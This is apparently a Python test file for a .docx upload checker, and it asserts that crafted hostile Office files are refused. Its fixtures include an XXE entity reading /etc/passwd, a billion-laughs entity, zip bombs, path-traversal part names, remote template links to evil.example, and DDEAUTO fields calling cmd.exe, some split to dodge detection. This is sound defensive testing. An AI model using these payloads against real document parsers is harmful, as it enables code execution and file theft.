"""Files that are dangerous, or no documents: each is refused, and says why."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Callable
from typing import Final

import pytest
from salesman_documents import samples
from salesman_documents.docx.checking import LARGEST, RefusedFileError, check_docx
from salesman_documents.testing import docx_of, raw_docx, zipped

_RELATIONS: Final = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _linked(kind: str, target: str, mode: str = "External") -> bytes:
    links = (
        f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r" Type="{_OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return docx_of("text", parts={"word/_rels/document.xml.rels": links})


def _field(*instructions: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instructions)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "end"))
    return raw_docx(f"<w:p>{begin}{runs}{end}</w:p>")


def _bomb() -> bytes:
    return docx_of("text", parts={"word/media/image1.png": bytes(70 * 1024 * 1024)})


def _many_parts() -> bytes:
    return docx_of("text", parts={f"word/media/{place}.png": b"" for place in range(600)})


def _encrypted() -> bytes:
    content = bytearray(docx_of("text"))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + place] |= 1
    return bytes(content)


def _twice() -> bytes:
    content = io.BytesIO(docx_of("text"))
    with zipfile.ZipFile(content, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<w/>")
    return content.getvalue()


def _long_field() -> bytes:
    lines = "\n" * 5_000_000
    return raw_docx(f"<w:p><w:r><w:instrText>{lines}</w:instrText></w:r></w:p>")


def _nested_field() -> bytes:
    begin, end = (f'<w:fldChar w:fldCharType="{one}"/>' for one in ("begin", "end"))
    first, second = (f"<w:instrText>{one}</w:instrText>" for one in ("DD", "EAUTO cmd"))
    inner = f"{begin}<w:instrText>PAGE</w:instrText>{end}"
    return raw_docx(f"<w:p><w:r>{begin}{first}{inner}{second}{end}</w:r></w:p>")


def _spreadsheet(*cells: str, strings: bytes | str = "") -> bytes:
    """Give one whose cells stand in two runs each, beside the settings of a printer."""
    runs = "".join(f"<si><r><t>{one[:4]}</t></r><r><t>{one[4:]}</t></r></si>" for one in cells)
    return zipped(
        {
            "xl/workbook.xml": "<x/>",
            "xl/sharedStrings.xml": strings or f"<sst>{runs}</sst>",
            "xl/printerSettings/printerSettings1.bin": b"x",
        }
    )


_MAIN: Final = "http://schemas.openxmlformats.org/drawingml/2006/main"
_DTD: Final = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'
_LAUGHS: Final = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'

HOSTILE: Final[dict[str, tuple[Callable[[], bytes], str]]] = {
    "external entity": (lambda: docx_of(parts={"word/document.xml": _DTD}), "entities or a DTD"),
    "laughs": (lambda: docx_of(parts={"word/styles.xml": _LAUGHS}), "entities or a DTD"),
    "DTD in UTF-16": (
        lambda: docx_of(parts={"word/styles.xml": _DTD.encode("utf-16")}),
        "entities or a DTD",
    ),
    "zip bomb": (_bomb, "zip bomb"),
    "many parts": (_many_parts, "more than 500 parts"),
    "a part twice": (_twice, "twice"),
    "encrypted": (_encrypted, "encrypted"),
    "a path out": (lambda: docx_of(parts={"../../etc/passwd": "x"}), "leads out of it"),
    "an absolute path": (lambda: docx_of(parts={"/etc/passwd": "x"}), "leads out of it"),
    "a path of Windows": (lambda: docx_of(parts={"word\\..\\x.xml": "<x/>"}), "leads out of it"),
    "macros": (lambda: docx_of(parts={"word/vbaProject.bin": b"x"}), "macros or embedded objects"),
    "an embedded file": (
        lambda: docx_of(parts={"word/embeddings/a.docx": b"x"}),
        "macros or embedded objects",
    ),
    "ActiveX": (
        lambda: docx_of(parts={"word/activeX/activeX1.xml": "<x/>"}),
        "macros or embedded objects",
    ),
    "type with macros": (
        lambda: docx_of(
            parts={
                "[Content_Types].xml": '<Types><Default Extension="xml" ContentType='
                '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            }
        ),
        "holds macros",
    ),
    "a picture from outside": (lambda: _linked("image", "http://evil.example/p.png"), "outside"),
    "a template from outside": (
        lambda: _linked("attachedTemplate", "http://evil.example/t.dotm"),
        "outside",
    ),
    "a file of the machine": (
        lambda: _linked("image", "file:///etc/passwd", "Internal"),
        "outside",
    ),
    "a share": (lambda: _linked("image", "\\\\evil\\share\\p.png"), "outside"),
    "an OLE object": (lambda: _linked("oleObject", "a.bin", "Internal"), "embedded objects"),
    "another file inside": (lambda: _linked("aFChunk", "a.html", "Internal"), "embedded objects"),
    "DDE": (lambda: _field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "reaches outside"),
    "DDE in pieces": (lambda: _field(" DD", "EAUTO cmd.exe"), "reaches outside"),
    "a picture by a field": (lambda: _field('INCLUDEPICTURE "http://evil"'), "reaches outside"),
    "a tag in a field": (lambda: _field("{{ client.name }}"), "reaches outside"),
    "DDE in quotes": (lambda: _field(' "DDEAUTO" cmd'), "reaches outside"),
    "DDE around a field": (_nested_field, "reaches outside"),
    "a field of many lines": (_long_field, "longer than it may be"),
    "a part of many elements": (lambda: raw_docx("<w:b/>" * 1_000_001), "zip bomb"),
    "a link to a file": (lambda: _linked("hyperlink", "file:///etc/passwd"), "neither into the"),
    "a picture that is linked": (
        lambda: raw_docx(f'<a:blip xmlns:a="{_MAIN}" xmlns:r="{_OFFICE}" r:link="r"/>'),
        "from outside",
    ),
    "a picture of old that is linked": (
        lambda: raw_docx('<v:imagedata xmlns:v="urn:v" src="http://evil.example/p.png"/>'),
        "from outside",
    ),
    "a drawing that draws in": (
        lambda: docx_of(parts={"word/media/a.svg": '<svg><image href="http://evil/p"/></svg>'}),
        "from outside",
    ),
    "a DTD under another ending": (
        lambda: docx_of(parts={"word/document2.dat": _DTD}),
        "entities or a DTD",
    ),
    "a document called a picture": (
        lambda: _linked("officeDocument", "word/evil.png", "Internal"),
        "damaged",
    ),
    "depth": (lambda: raw_docx("<w:p>" * 300 + "</w:p>" * 300), "nested too deeply"),
    "broken XML": (lambda: docx_of(parts={"word/document.xml": "<w:document>"}), "no proper XML"),
    "too large": (lambda: bytes(LARGEST + 1), "larger than 10 MB"),
    "an old .doc": (lambda: b"\xd0\xcf\x11\xe0" + bytes(600), "old .doc"),
    "a spreadsheet": (lambda: _spreadsheet("Total"), "spreadsheet. Templates are .* in .docx.$"),
    "a spreadsheet with tags": (
        lambda: _spreadsheet("[var.docNum] / [var.docDate]", "{{ client.name }}", "[var.docNum]"),
        r"spreadsheet.* It says: \[var.docNum\], \[var.docDate\], {{ client.name }}$",
    ),
    "a spreadsheet with many tags": (
        lambda: _spreadsheet(*(f"[var.field{place}]" for place in range(30))),
        r"\[var.field0\].*\[var.field19\], …$",
    ),
    "a spreadsheet with entities": (lambda: _spreadsheet(strings=_LAUGHS), "entities or a DTD"),
    "a spreadsheet that is a bomb": (
        lambda: _spreadsheet(strings="<sst>" + " " * (26 * 1024 * 1024) + "</sst>"),
        "zip bomb",
    ),
    "a spreadsheet of many cells": (
        lambda: _spreadsheet(strings="<sst>" + "<si/>" * 1_000_001 + "</sst>"),
        "zip bomb",
    ),
    "no archive": (lambda: b"%PDF-1.7", "no .docx"),
    "another archive": (lambda: zipped({"a.txt": "x"}), "no .docx"),
}


@pytest.mark.parametrize("named", HOSTILE)
def test_dangerous_files_are_refused_with_the_reason(named: str) -> None:
    make, reason = HOSTILE[named]

    with pytest.raises(RefusedFileError, match=reason) as refused:
        check_docx(make())

    assert set(refused.value.fields) == {"file"}


def test_what_is_dangerous_is_refused_before_it_costs_anything() -> None:
    begun = time.process_time()

    for named in ("a field of many lines", "a part of many elements"):
        with pytest.raises(RefusedFileError):
            check_docx(HOSTILE[named][0]())

    assert time.process_time() - begun < 10


@pytest.mark.parametrize(("cell", "count"), [("{{" * 500, 2000), ("[a." + "a" * 990, 20_000)])
def test_cells_that_only_begin_tags_cost_little(cell: str, count: int) -> None:
    content = _spreadsheet(*[cell] * count)
    begun = time.process_time()

    with pytest.raises(RefusedFileError, match=r"spreadsheet\. Templates are .* in \.docx\.$"):
        check_docx(content)

    assert time.process_time() - begun < 3


def test_our_own_templates_and_links_in_the_web_pass() -> None:
    for languages in samples.SAMPLES.values():
        for sample in languages.values():
            check_docx(sample())
    check_docx(_linked("hyperlink", "https://example.com/"))
    check_docx(_field(" PAGE "))
